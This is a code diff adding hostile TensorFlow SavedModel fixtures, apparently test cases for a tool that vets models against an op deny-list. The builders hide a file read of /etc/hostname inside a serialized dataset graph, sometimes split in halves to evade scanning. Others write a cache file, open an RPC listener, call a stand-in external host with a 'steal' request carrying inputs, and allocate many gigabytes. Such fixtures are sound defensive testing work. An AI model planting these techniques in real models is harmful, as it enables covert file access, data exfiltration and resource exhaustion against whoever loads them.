@@ -20,9 +20,13 @@ import tensorflow as tf
 
 __all__ = [
     "BUILDERS",
+    "ESCAPES",
     "HUGE_ELEMENTS",
     "SPEC",
+    "allocating",
     "asset_table",
+    "dataset_reader",
+    "dataset_writer",
     "greedy",
     "hard_linked",
     "plain",
@@ -159,6 +163,98 @@ BUILDERS: dict[str, tuple[Callable[[Path], Path], str]] = {
     "huge_allocation": (lambda folder: _save(_Huge(), folder), "Fill"),
     "constant_vocabulary": (constant_table, "InitializeTableFromTextFileV2"),
     "captured_vocabulary": (captured_table, "InitializeTableFromTextFileV2"),
+}
+
+
+def _carried_graph(dataset: Any) -> bytes:
+    """``dataset``'s graph, serialized as ``DatasetFromGraph`` takes it."""
+    return bytes(tf.raw_ops.DatasetToGraphV2(input_dataset=dataset._variant_tensor).numpy())
+
+
+class _CarriedDataset(tf.Module):
+    """Serves the first element of a tf.data pipeline rebuilt from ``graph`` at run time
+    (``DatasetFromGraph``): a string constant, or one joined from halves when it runs."""
+
+    def __init__(self, graph: bytes, *, joined: bool = False) -> None:
+        super().__init__()
+        self.graph, self.joined = graph, joined
+
+    @tf.function(input_signature=[SPEC])
+    def serve(self, x: Any) -> dict[str, Any]:
+        half = len(self.graph) // 2
+        if self.joined:
+            graph = tf.strings.join([self.graph[:half], self.graph[half:]])
+        else:
+            graph = tf.constant(self.graph)
+        variant = tf.raw_ops.DatasetFromGraph(graph_def=graph)
+        (first,) = tf.raw_ops.DatasetToSingleElement(
+            dataset=variant, output_types=[tf.string], output_shapes=[[]]
+        )
+        return {"y": tf.identity(x), "text": tf.reshape(first, [1])}
+
+
+def dataset_reader(folder: Path, *, outside: str = "/etc/hostname", joined: bool = False) -> Path:
+    """Serves a line of ``outside`` read by a ``TextLineDataset`` carried as a graph."""
+    graph = _carried_graph(tf.data.TextLineDataset(outside).take(1))
+    return _save(_CarriedDataset(graph, joined=joined), folder)
+
+
+def dataset_writer(folder: Path, *, target: str = "/tmp/mooring-hostile-cache") -> Path:
+    """Writes a ``Dataset.cache`` file at ``target`` when called, carried as a graph."""
+    numbers = tf.data.Dataset.range(3).map(lambda i: tf.strings.as_string(i))
+    graph = _carried_graph(numbers.cache(target).take(1))
+    return _save(_CarriedDataset(graph), folder)
+
+
+class _Listening(tf.Module):
+    @tf.function(input_signature=[SPEC])
+    def serve(self, x: Any) -> dict[str, Any]:
+        from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops
+
+        server = gen_rpc_ops.rpc_server(server_address="0.0.0.0:18555")
+        with tf.control_dependencies([gen_rpc_ops.rpc_server_start(server)]):
+            return {"y": tf.identity(x)}
+
+
+class _Connecting(tf.Module):
+    @tf.function(input_signature=[SPEC])
+    def serve(self, x: Any) -> dict[str, Any]:
+        from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops
+
+        client, _ = gen_rpc_ops.rpc_client(
+            server_address="203.0.113.7:18555", timeout_in_ms=1000, shared_name="c"
+        )
+        future, _ = gen_rpc_ops.rpc_call(client, "steal", [x], timeout_in_ms=1000)
+        with tf.control_dependencies([gen_rpc_ops.rpc_check_status(future).error_code]):
+            return {"y": tf.identity(x)}
+
+
+class _Allocating(tf.Module):
+    """``OneHot`` with depth 2³¹−1 and ``Tile`` to ``tile_gib`` GiB, both constants."""
+
+    def __init__(self, tile_gib: int) -> None:
+        super().__init__()
+        self.multiples = tile_gib * 2**30 // (1024 * 4)
+
+    @tf.function(input_signature=[SPEC])
+    def serve(self, x: Any) -> dict[str, Any]:
+        wide = tf.one_hot(tf.constant([1]), 2**31 - 1)
+        tiled = tf.tile(tf.ones([1024]), [self.multiples])
+        return {"y": x + 0.0 * (tf.reduce_sum(wide) + tf.reduce_sum(tiled))}
+
+
+def allocating(folder: Path, *, tile_gib: int = 2) -> Path:
+    """8 GiB of ``OneHot`` and ``tile_gib`` GiB of ``Tile`` per call."""
+    return _save(_Allocating(tile_gib), folder)
+
+
+#: Models that reach out through ops not on a deny-list: ``name → (builder, the op the
+#: vetting names)``; the dataset models also hold the op their carried graph runs.
+ESCAPES: dict[str, tuple[Callable[[Path], Path], str]] = {
+    "dataset_read": (dataset_reader, "DatasetFromGraph"),
+    "dataset_write": (dataset_writer, "DatasetFromGraph"),
+    "rpc_listen": (lambda folder: _save(_Listening(), folder), "RpcServerStart"),
+    "rpc_connect": (lambda folder: _save(_Connecting(), folder), "RpcClient"),
 }
 
 
